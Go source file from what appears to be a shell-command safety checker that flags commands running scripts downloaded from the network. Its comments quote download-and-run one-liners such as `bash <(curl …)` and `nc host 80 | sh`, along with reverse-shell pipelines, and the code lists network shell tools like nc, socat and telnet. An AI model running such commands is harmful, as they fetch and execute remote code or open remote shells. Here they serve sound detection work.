package patterns

// A shell that runs text made when it runs is unreadable (the floor), and
// so it stays; but when that text is what a part of the same line fetches
// from the network, the surest thing to say about it is that it runs a
// script fetched from the network (fx29e2, rt28d #5): `bash <(curl …)`,
// `source <(curl …)`, `. /dev/stdin <<< "$(wget …)"`, `bash -c "$(curl
// …)"`, `eval "$(curl …)"`, `nc host 80 | sh`, `ssh host cat x.sh |
// bash`, `curl … | at now`, and a shell fed so through a function
// (`f() { sh; }; curl … | f`, effects_fed.go). Such a part's Unreadable
// names cmd.download-run, which its ask names while an operator has not
// carved that default out (eval_floorname_reader.go); the outcome stays
// the floor's ask and the part stays unreadable. Text from anywhere else
// (`bash -c "$(cat x.sh)"`, `cat x.sh | bash`) stays the floor's.

// fetchRunSpan reports whether c is a code whose unreadable span holds
// the text that runs: a network reader inside that span feeds the code.
func fetchRunSpan(c UnreadableCode) bool {
	switch c {
	case UnreadableEval, UnreadableProcShell, UnreadableNestedDynamic, UnreadableProgram:
		return true
	}
	return false
}

// fetchRunStdin reports whether c is the code of a part that runs the
// script its standard input holds: a network reader feeding that input
// feeds the code.
func fetchRunStdin(c UnreadableCode) bool {
	switch c {
	case UnreadablePipeShell, UnreadableHereShell, UnreadableProcShell:
		return true
	}
	return false
}

// stdinFile reports whether name names standard input, which source and
// . may run.
func stdinFile(name string) bool {
	switch name {
	case "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0":
		return true
	}
	return false
}

// nameFetchedRuns names cmd.download-run on each unreadable part whose
// code comes from a part that reads the network.
func (r *reading) nameFetchedRuns() {
	for _, p := range r.cmd.Parts {
		u := p.Unreadable
		if u == nil || u.names != "" || r.returnsToNetwork(p) {
			continue
		}
		if fetchRunSpan(u.Code) && fromProgramOn(p, u.Span) && r.networkWithin(p, u.Span) ||
			(fetchRunStdin(u.Code) || u.Code == UnreadableEval && stdinFile(r.spanText(u.Span))) && r.fedFromNetwork(p) {
			u.names = floorNamer
		}
	}
}

// fromProgramOn reports whether s stands at or after p's program word:
// a value assigned before it (`CMAKE_TOOLCHAIN_FILE="$(curl …)" cmake`)
// names a file the program reads, not the code the reader was handed,
// and stays the floor's.
func fromProgramOn(p *Part, s Span) bool {
	return len(p.Words) > 0 && s.Start >= p.Words[0].Span.Start
}

// spanText is the source text of s, or "" for a span outside it.
func (r *reading) spanText(s Span) string {
	if s.Start < 0 || s.End > len(r.cmd.Source) || s.Start > s.End {
		return ""
	}
	return r.cmd.Source[s.Start:s.End]
}

// networkWithin reports whether a part other than p that reads the
// network stands within s. A part p hands its own command string to
// (`eval 'curl -o ~/.bashrc URL'`) is a command read as a part and judged
// as one (fx42b2): its output is not text p runs.
func (r *reading) networkWithin(p *Part, s Span) bool {
	for _, q := range r.cmd.Parts {
		if q != p && readsNetwork(q) && q.Span.Start >= s.Start && q.Span.End <= s.End && !r.handedBy(q, p) {
			return true
		}
	}
	return false
}

// fedFromNetwork reports whether p's standard input comes from a part
// that reads the network: an earlier stage of its pipeline (or a part
// within one), or a part within the here-string or process substitution
// that feeds it.
func (r *reading) fedFromNetwork(p *Part) bool {
	for _, rd := range p.Redirs {
		if (rd.Op == "<<<" || rd.Op == "<") && (rd.Fd == "" || rd.Fd == "0") && r.networkWithin(p, rd.Target.Span) {
			return true
		}
	}
	if p.Feed != FeedPipe || p.Pipe.ID < 0 {
		return false
	}
	for _, s := range r.cmd.Parts {
		if s != p && s.Pipe.ID == p.Pipe.ID && s.Pipe.Stage < p.Pipe.Stage &&
			(readsNetwork(s) || r.networkWithin(p, s.Span)) {
			return true
		}
	}
	return false
}

// readsNetwork reports whether part q writes what it reads from the
// network: a downloader, a raw socket (nc, socat, telnet, openssl
// s_client) or ssh, whose output is the other host's.
func readsNetwork(q *Part) bool {
	switch q.Program {
	case "nc", "ncat", "netcat", "socat", "telnet", "ssh":
		return true
	case "openssl":
		for _, w := range q.Args() {
			if v, ok := w.Literal(); ok && v == "s_client" {
				return true
			}
		}
		return false
	}
	return isDownloader(q.Program) || streamsNetwork(q) // read_fetchstreams.go
}

// returnsToNetwork reports whether p's output goes back to the network,
// a reverse shell (`telnet h 4444 | sh | telnet h 4445`, `nc h 4444 <
// /tmp/f | sh > /tmp/f`): a later stage of its pipeline reads the
// network, or a network reader reads the file p writes. That is remote
// access, not a script run, and stays the floor's (or cmd.credentials').
func (r *reading) returnsToNetwork(p *Part) bool {
	for _, s := range r.cmd.Parts {
		if s != p && p.Pipe.ID >= 0 && s.Pipe.ID == p.Pipe.ID && s.Pipe.Stage > p.Pipe.Stage && readsNetwork(s) {
			return true
		}
	}
	for _, w := range p.Redirs {
		t, ok := w.Target.Literal()
		if !w.Writes || !ok {
			continue
		}
		for _, q := range r.cmd.Parts {
			if !readsNetwork(q) {
				continue
			}
			for _, rd := range q.Redirs {
				if v, ok := rd.Target.Literal(); ok && !rd.Writes && v == t {
					return true
				}
			}
		}
	}
	return false
}

// handedBy reports whether p handed q its command string, directly or
// through the parts between them.
func (r *reading) handedBy(q, p *Part) bool {
	for seen := 0; q.Parent >= 0 && q.Parent < len(r.cmd.Parts) && seen < len(r.cmd.Parts); seen++ {
		q = r.cmd.Parts[q.Parent]
		if q == p {
			return true
		}
	}
	return false
}
